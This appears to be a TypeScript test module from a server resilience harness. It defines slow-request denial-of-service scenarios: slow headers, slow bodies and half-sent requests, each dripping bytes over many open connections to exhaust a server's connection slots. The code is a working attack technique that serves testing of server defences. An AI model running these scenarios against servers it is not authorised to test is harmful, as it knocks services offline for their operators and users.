import { setTimeout } from "node:timers/promises";
import { RawConnections } from "./raw-connections.ts";
import { part, type Scenario, type Target } from "./scenario.ts";

/** A visit that lacks its end, with nearly as many bytes of headers as a server takes, in as many headers as that makes. */
export const manyHeaders = `POST /visits HTTP/1.1\r\nHost: a\r\n${"ab:c\r\n".repeat(2600)}`;

/** Sends something on many connections, then one more byte on each from time to time. */
async function drip(target: Target, first: string, more: string): Promise<number> {
  using connections = new RawConnections(target.port);
  const sockets = await connections.connect(part(target, 5000));
  for (const socket of sockets) socket.write(first);
  // Longer than a server waits for a request.
  const end = performance.now() + 18_000 * target.share;
  do {
    await setTimeout(200);
    for (const socket of sockets) if (socket.writable) socket.write(more);
  } while (performance.now() < end);
  return sockets.length;
}

/** Requests that come slowly, or never to their end. */
export const slow: readonly Scenario[] = [
  {
    name: "slow headers",
    attack: async (target) => {
      await drip(target, manyHeaders, "a");
      return 0;
    },
  },
  {
    name: "slow bodies",
    attack: (target) => {
      const head = "POST /visits HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n";
      return drip(target, head + "x".repeat(16_000), "x");
    },
  },
  {
    name: "half a request",
    attack: async (target) => {
      await drip(target, "POST /vis", "");
      return 0;
    },
  },
];
